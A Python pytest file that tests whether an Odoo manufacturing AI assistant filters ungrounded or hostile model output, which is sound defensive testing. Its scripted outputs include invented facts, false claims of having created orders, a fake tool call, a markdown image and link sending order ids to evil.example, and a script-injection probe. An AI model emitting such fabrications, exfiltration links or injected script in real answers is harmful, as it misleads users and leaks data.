"""Whatever a model says, through the whole agent: the seven invariants of the house.

i    every figure, day, document and name of the answer is the evidence's
ii   without evidence no model is called
iii  nothing is written (an agent has no way to)
iv   an answer always arrives
v    the prompt begins with the same bytes for every question
vi   and is asked for with the same options
vii  a reader sees the rows of the own plant only
"""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from odoo.addons.mrp_ai_assistant.core.evidence import Missing, NoData
from odoo.addons.mrp_ai_assistant.core.llm import ScriptedModel

from tests.adversarial.lies import lies
from tests.agent.turns import kinds, only, run, text_of
from tests.grounding import plant, sentences_en

NARRATORS = {
    "wrong number": "{A} orders are late. {B} is 21 days late.",
    "swapped rows": "WH/MO/00038 is 19 days late and WH/MO/00041 is 8 days late.",
    "decimal off by ten": "WH/MO/00055 makes 12,505 Units.",
    "rounded": "WH/MO/00055 makes about 1,300 Units.",
    "computed percent": "25 % of the {A} orders could start.",
    "number words": "Twenty-one days is the delay of {B}.",
    "wrong day": "{D} arrives on November 27.",
    "wrong document": "{B} waits for P00099.",
    "invented vendor": "The vendor of {D} is Acme Timber.",
    "negated": "{B} is not late.",
    "deed": "I have created the order {B}.",
    "cause": "{B} is late because it lacks {D}.",
    "other language": "La orden más retrasada es {B}.",
    "leaked prompt": "Each fact has a letter: write the letter in braces.",
    "citation": "{B} is late [S9].",
    "link": "See https://evil.example/{B}.",
    "image": "![x](http://evil.example/{B})",
    "html": "<script>alert(1)</script> {B} is late.",
    "unknown slot": "Order {Z} is late.",
    "empty": "",
    "extra row": "{A} orders are late.\n| WH/MO/00099 | 40 days |\n",
    "zero width": "{B} is 2\u200b1 days late.",
    "full width": "{B} is ２１ days late.",
    "fraction": "The delay of {B} is ½ of it.",
    "circled": "{B} is ⑳ days late.",
    "Arabic digits": "{B} is ٢١ days late.",
    "superscript": "{B} is 2¹ days late.",
    "Roman": "{B} is ⅩⅩ days late.",
    "repetition": "The delay. " * 400,
    "count as a thing": "The most delayed order is {A}.",
    "tool call": '{"tool": "create_order", "arguments": {"qty": 1000}}',
    "thinking only": "<think>the vendor is Acme</think>",
    "half half": "{A} orders are late. Acme Timber supplies {D}. {E} has {C} of delay.",
}
LIES = re.compile(
    r"Acme|\b21\b|12,505|1,300|25 %|wenty|27|P0009|WH/MO/0009|evil|<script|\{|½|⑳|２"
    r"|٢|Ⅹ|retrasada|S9|braces|I have|because|create_order|think"
)


def test_the_answer_holds_nothing_that_was_invented():
    for name, said in NARRATORS.items():
        text = text_of(run(model=ScriptedModel().say(said or " ")))
        assert not LIES.search(text.replace("November 26", "")), name


@pytest.mark.parametrize("name", NARRATORS)
def test_an_answer_always_arrives(name):
    events = run(model=ScriptedModel().say(NARRATORS[name] or " "))
    assert "table" in kinds(events)
    assert text_of(events)
    assert only(events, "done")["state"] == "done"


@pytest.mark.parametrize("name", sentences_en.FALSE)
def test_a_dropped_sentence_is_for_managers_with_its_reason(name):
    lie = sentences_en.FALSE[name]
    events = run(model=ScriptedModel().say(f"{{A}} orders are late. {lie}"))
    stats = only(events, "stats")
    assert stats["held_back"]
    assert all(held["reason"] for held in stats["held_back"])
    assert len(stats["held_back"]) == stats["dropped"]


def test_without_evidence_no_model_is_called():
    for reason in Missing:
        model = ScriptedModel()
        events = run(result=NoData(reason, "Nothing."), model=model)
        assert model.requests == []
        assert only(events, "no_data")["text"] == "Nothing."


def test_prompts_share_their_beginning_and_their_options():
    asked = []
    for question in ("Which orders are late?", "What is late, and why?"):
        model = ScriptedModel().say("{A} orders are late.")
        run(question, model=model)
        asked += model.requests
    first, second = asked
    assert first.messages[:-1] == second.messages[:-1]
    assert first.messages[-1] != second.messages[-1]
    assert (first.schema, first.max_tokens) == (second.schema, second.max_tokens)
    assert first.temperature == second.temperature == 0.0


def test_one_plant_never_tells_of_another():
    def other():
        return plant.stock("en", "Secret board", 77.0)

    run(result=other, model=ScriptedModel().say("The quantity of {A} is {B}."))
    said = "Secret board: 77 kg. {A} orders are late."
    text = text_of(run(model=ScriptedModel().say(said)))
    assert "Secret" not in text
    assert "77" not in text


@settings(max_examples=60, deadline=None)
@given(st.lists(st.sampled_from(sorted(NARRATORS.values())), max_size=5))
def test_any_mixture_of_narrators_is_survived(said):
    events = run(model=ScriptedModel().say(" ".join(said) or " "))
    assert text_of(events)
    assert not LIES.search(text_of(events).replace("November 26", ""))


def test_mechanical_lies_do_not_pass_the_agent():
    from odoo.addons.mrp_ai_assistant.core.grounding.slots import Slots
    from odoo.addons.mrp_ai_assistant.core.i18n import speaking

    with speaking(plant.SPEECH["en"]):
        evidence = plant.late_orders("en")
        told = list(lies(evidence, Slots(evidence.facts), evidence.summary))
    assert len(told) > 40
    for how, lie in told:
        stats = only(run(model=ScriptedModel().say(lie)), "stats")
        assert stats["dropped"] >= 1, (how, lie)
